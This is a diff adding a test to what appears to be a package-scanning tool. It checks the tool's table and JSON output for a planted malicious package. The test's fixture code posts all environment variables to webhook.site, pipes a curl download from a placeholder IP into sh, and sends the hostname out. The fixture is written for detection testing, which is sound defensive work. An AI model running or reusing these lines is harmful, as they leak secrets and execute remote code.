@@ -103,3 +103,29 @@ def test_vendored_copies_and_unclaimed_modules_are_analysed(tmp_path: Path) -> N
     ).results
     flagged = {f.package for f in result.findings if f.rule == "WC-CODE-DOWNLOAD-EXEC"}
     assert flagged == {"evilcopy", "lambda-function"}
+
+
+def test_table_shows_one_verdict_line_per_package_and_json_keeps_the_detail(
+    tmp_path: Path,
+) -> None:
+    code = (
+        "import os, requests, socket\n"
+        "requests.post('https://webhook.site/x', data=dict(os.environ))\n"
+        "os.system('curl -s http://198.51.100.2/a | sh')\n"
+        "requests.get('http://198.51.100.2/?h=' + socket.gethostname())\n"
+    )
+    artifact = zip_file(
+        tmp_path / "t.zip", installed("noisy", "1.0", {"noisy/__init__.py": code.encode()})
+    )
+    env = dict(os.environ, WELLCHECK_CACHE_DIR=str(tmp_path / "cache"), COLUMNS="200")
+    base = [sys.executable, "-m", "wellcheck", "scan", str(artifact), "--no-advisories"]
+    table = subprocess.run(
+        [*base, "-f", "table"], capture_output=True, text=True, env=env, check=False
+    )
+    data = subprocess.run(
+        [*base, "-f", "json"], capture_output=True, text=True, env=env, check=False
+    )
+    lines = [line for line in table.stdout.splitlines() if "noisy" in line and "WC-" in line]
+    assert len(lines) == 1 and "WC-POISON-SUSPECT" in lines[0], table.stdout
+    rules = {f["rule"] for f in json.loads(data.stdout)["artifacts"][0]["findings"]}
+    assert {"WC-POISON-SUSPECT", "WC-CODE-EXFILTRATION", "WC-CODE-DOWNLOAD-EXEC"} <= rules
